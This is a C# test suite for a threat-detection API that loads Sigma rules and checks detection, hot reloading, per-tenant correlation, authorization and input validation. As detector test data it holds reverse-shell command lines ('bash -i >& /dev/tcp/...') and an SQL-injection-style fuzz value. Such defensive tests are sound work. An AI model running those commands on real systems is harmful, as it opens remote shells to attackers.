using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using Microsoft.Extensions.DependencyInjection;
using Platform.Contracts;
using Platform.Hosting;
using Platform.Risk.Security;

namespace Platform.Risk.Tests;

public sealed class SecurityApiTests : IAsyncLifetime
{
    private const string Detect = "/detect-realtime";
    private readonly string sigma = Directory.CreateTempSubdirectory("sigma-").FullName;
    private RiskHost host = null!;

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    public static TheoryData<string> Routes => [Detect, "/analyze-behavior", "/monitor-network"];

    public async ValueTask InitializeAsync()
    {
        foreach (var file in Directory.EnumerateFiles(Path.Combine(AppContext.BaseDirectory, "sigma"), "*.yml"))
            File.Copy(file, Path.Combine(sigma, Path.GetFileName(file)));
        host = await RiskHost.StartAsync(new() { ["Risk:SigmaPath"] = sigma });
    }

    public async ValueTask DisposeAsync()
    {
        await host.DisposeAsync();
        Directory.Delete(sigma, recursive: true);
    }

    [Fact]
    public async Task An_event_that_rules_are_about_is_answered_with_threats_and_others_are_not()
    {
        var report = await AskAsync(Detect, Shell("e-1", "bash -i >& /dev/tcp/10.0.0.1/4444"), Shell("e-2", "ls"));

        var threat = Assert.Single(report.Threats);
        Assert.Equal(("e-1", "execution", RiskLevel.Critical), (threat.EventId, threat.Type, threat.Severity));
        Assert.Equal("Platform", threat.Rule!.Author);
    }

    [Fact]
    public async Task A_rule_file_with_a_mistake_leaves_the_others_and_its_own_past_in_force()
    {
        var rules = host.Services.GetRequiredService<CurrentSigmaRules>();
        var before = rules.Value.Rules.Count;
        await File.WriteAllTextAsync(Path.Combine(sigma, "bad.yml"), "title: x\ndetection: {", Ct);
        await File.WriteAllTextAsync(Path.Combine(sigma, "linux-reverse-shell.yml"), "title: [", Ct);

        rules.Reload();

        Assert.Equal(before, rules.Value.Rules.Count);
        Assert.Single((await AskAsync(Detect, Shell("e-1", "cat < /dev/tcp/10.0.0.1/4444"))).Threats);
    }

    [Fact]
    public async Task A_rule_that_is_added_is_in_force_without_a_restart()
    {
        const string Rule = """
            title: New
            logsource: { category: process_creation }
            detection: { a: { CommandLine: ls }, condition: a }
            """;
        var rules = host.Services.GetRequiredService<CurrentSigmaRules>();
        var before = rules.Value;
        Directory.CreateDirectory(Path.Combine(sigma, "own"));
        await File.WriteAllTextAsync(Path.Combine(sigma, "own", "new.yml"), Rule, Ct);
        await Eventually.HoldsAsync(() => rules.Value.Rules.Count > before.Rules.Count);

        Assert.Equal("New", Assert.Single((await AskAsync(Detect, Shell("e-1", "ls"))).Threats).Rule!.Title);
    }

    [Fact]
    public async Task A_correlation_fires_over_requests_and_for_its_tenant_alone_and_its_rules_are_silent()
    {
        const string Rule = """
            title: Listing
            name: listing
            logsource: { category: process_creation }
            detection: { a: { CommandLine: ls }, condition: a }
            ---
            title: Many listings
            id: 5f1abf38-0000-4000-8000-00000000000b
            level: high
            tags: [attack.discovery, attack.t1083]
            correlation: { type: event_count, rules: [listing], group-by: [host.name], timespan: 1m, condition: { gte: 3 } }
            """;
        await File.WriteAllTextAsync(Path.Combine(sigma, "many.yml"), Rule, Ct);
        host.Services.GetRequiredService<CurrentSigmaRules>().Reload();

        Assert.Empty((await AskAsync(Detect, Shell("e-1", "ls"), Shell("e-2", "ls"))).Threats);
        Assert.Empty((await AskAsync(Detect, Shell("e-1", "ls"), Shell("e-2", "ls"))).Threats);
        using var rival = await PostAsync(host.Client(tenant: "rival"), Detect, Body(Shell("e-3", "ls")));
        Assert.Empty((await rival.Content.ReadFromJsonAsync(ContractsJson.Default.ThreatReport, Ct))!.Threats);
        var threat = Assert.Single((await AskAsync(Detect, Shell("e-3", "ls"))).Threats);

        Assert.Equal(("Many listings", "discovery", RiskLevel.High), (threat.Rule!.Title, threat.Type, threat.Severity));
        Assert.Equal([("host.name", "web-1"), ("events", "3")], threat.Indicators.Select(each => (each.Name, each.Value)));
        Assert.Equal(threat.Id, Assert.Single((await AskAsync(Detect, Shell("e-3", "ls"))).Threats).Id);
        Assert.Empty((await AskAsync(Detect, Shell("e-4", "ls"))).Threats);
    }

    [Theory, MemberData(nameof(Routes))]
    public async Task Anonymous_caller_is_not_let_in(string path)
    {
        using var answer = await PostAsync(host.Client(role: null), path, Body(Shell("e-1", "ls")));
        Assert.Equal(HttpStatusCode.Unauthorized, answer.StatusCode);
    }

    [Theory, MemberData(nameof(Routes))]
    public async Task Missing_scope_is_forbidden(string path)
    {
        using var answer = await PostAsync(host.Client(Roles.Analyst), path, Body(Shell("e-1", "ls")));
        Assert.Equal(HttpStatusCode.Forbidden, answer.StatusCode);
    }

    [Theory, MemberData(nameof(Routes))]
    public async Task A_bad_body_is_refused_by_the_place_of_the_mistake(string path)
    {
        var sound = Body(Shell("e-1", "ls"));
        (string Body, string Field)[] cases =
        [
            (sound.Replace("\"e-1\"", "\"?\"", StringComparison.Ordinal), "events[0].id"),
            (sound.Replace("\"ls\"", "{\"a\":1}", StringComparison.Ordinal), "events[0].fields"),
            (sound.Replace("\"process\"", "\"proces\"", StringComparison.Ordinal), "kind"),
            ("""{"events":[]}""", "events"),
            ("{}", "events"),
            ("""{"events":[null]}""", "events"),
            (Body([.. Enumerable.Range(0, 1_001).Select(i => Shell($"e-{i}", "ls"))]), "events"),
        ];

        foreach (var (body, field) in cases)
        {
            using var answer = await PostAsync(host.Client(), path, body);
            Assert.Equal(HttpStatusCode.BadRequest, answer.StatusCode);
            Assert.Contains(field, await answer.Content.ReadAsStringAsync(Ct), StringComparison.Ordinal);
        }
    }

    [Theory, MemberData(nameof(Routes))]
    public async Task Hostile_field_values_are_answered_and_never_an_error_of_ours(string path)
    {
        string[] values =
        [
            "1e999", "-0.0", "null", "[]", "[null]", "\"\"", "\"\\u0000\\u001b\"", "99999999999999999999999999", "\"NaN\"",
            "[true,1,\"x\"]",
            JsonSerializer.Serialize(new string('a', 8_192)), "\"10.0.0.1' OR 1=1\"", "\"٣\"", "\"-1\"",
        ];
        string[] names =
        [
            "CommandLine", "source.bytes", "destination.port", "source.geo.location.lat", "source.geo.location.lon", "destination.ip",
            "event.action", "user.group", "network.transport", "event.duration", "source.packets", "file.size",
        ];
        foreach (var value in values)
        {
            using var answer = await PostAsync(host.Client(), path, Body(Shell("e-1", "ls") with
            {
                Kind = SecurityEventKind.Network, User = "ann", Ip = "10.0.0.1",
                Fields = names.ToDictionary(name => name, _ => JsonElement.Parse(value)),
            }));
            Assert.True(answer.StatusCode is HttpStatusCode.OK, $"{value}: {answer.StatusCode}");
        }
    }

    [Fact]
    public async Task Half_a_character_in_a_field_is_refused()
    {
        using var answer = await PostAsync(
            host.Client(), Detect, Body(Shell("e-1", "ls")).Replace("\"ls\"", "\"\\ud800\"", StringComparison.Ordinal));
        Assert.Equal(HttpStatusCode.BadRequest, answer.StatusCode);
    }

    private static SecurityEvent Shell(string id, string commandLine) => new()
    {
        Id = id, Time = new(2026, 5, 4, 12, 0, 0, TimeSpan.Zero), Kind = SecurityEventKind.Process, Source = new("linux"), Host = "web-1",
        Fields = new Dictionary<string, JsonElement>
        {
            ["Image"] = JsonElement.Parse("\"/bin/bash\""), ["CommandLine"] = JsonSerializer.SerializeToElement(commandLine),
        },
    };

    private static string Body(params SecurityEvent[] events) =>
        JsonSerializer.Serialize(new(events), ContractsJson.Default.SecurityEventBatch);

    private static async Task<HttpResponseMessage> PostAsync(HttpClient client, string path, string body)
    {
        using var content = new StringContent(body, Encoding.UTF8, "application/json");
        return await client.PostAsync(path, content, Ct);
    }

    private async Task<ThreatReport> AskAsync(string path, params SecurityEvent[] events)
    {
        using var answer = await PostAsync(host.Client(), path, Body(events));
        Assert.Equal(HttpStatusCode.OK, answer.StatusCode);
        return (await answer.Content.ReadFromJsonAsync(ContractsJson.Default.ThreatReport, Ct))!;
    }
}
